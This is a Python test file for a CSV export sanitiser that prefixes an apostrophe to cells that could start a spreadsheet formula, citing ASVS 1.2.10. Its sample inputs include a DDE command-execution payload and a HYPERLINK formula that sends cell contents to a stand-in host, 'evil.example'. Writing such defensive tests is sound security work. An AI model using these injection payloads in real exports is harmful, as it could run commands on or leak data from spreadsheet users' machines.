import csv
import io
from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st

from socialcube.domain.exports.policy import defuse, to_line

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"see")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tplain",
    "\rplain",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\ufe661",
    "\u22121",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_begins_a_formula_gets_an_apostrophe_first(text: str) -> None:
    assert defuse(text).startswith("'")


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_written_line_begins_a_formula(text: str) -> None:
    (cells,) = csv.reader(io.StringIO(to_line(["a", text, 'x"y', text]), newline=""))
    assert [cell[:1] for cell in cells] == ["a", "'", "x", "'"]


@pytest.mark.parametrize("text", ["", "Mara", "a=b", "1-2", "me@example.org", "'=1", "{}", "Zoë 🌱"])
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert defuse(text) == text


@pytest.mark.parametrize(("text", "written"), [("a;=1", "a;'=1"), ("a;  +1", "a;  '+1"), ("a\t@x", "a\t'@x")])
def test_a_formula_behind_another_separator_is_stopped_too(text: str, written: str) -> None:
    assert defuse(text) == written


def test_numbers_moments_and_nothing_are_written_plainly() -> None:
    moment = datetime(2026, 5, 1, 14, tzinfo=timezone(timedelta(hours=2)))
    cells = [-5, -1.5, None, True, False, moment, {"a": [1, "ü"]}, datetime(2026, 1, 1, tzinfo=UTC)]
    assert to_line(cells) == (
        '-5,-1.5,,yes,no,2026-05-01T12:00:00Z,"{""a"": [1, ""ü""]}",2026-01-01T00:00:00Z\r\n'
    )


def test_quotes_commas_and_line_breaks_are_quoted_as_the_standard_says() -> None:
    assert to_line(['a"b', "a,b", "a\nb", "plain"]) == '"a""b","a,b","a\nb",plain\r\n'


@given(st.lists(st.text(), min_size=1, max_size=6))
def test_asvs_1_2_10_any_line_reads_back_with_as_many_cells_and_no_formula(cells: list[str]) -> None:
    line = to_line(cells)
    (read,) = csv.reader(io.StringIO(line, newline=""))
    assert len(read) == len(cells)
    line.encode()
    assert not any(cell.lstrip().startswith(("=", "+", "-", "@", "\uff1d")) for cell in read)
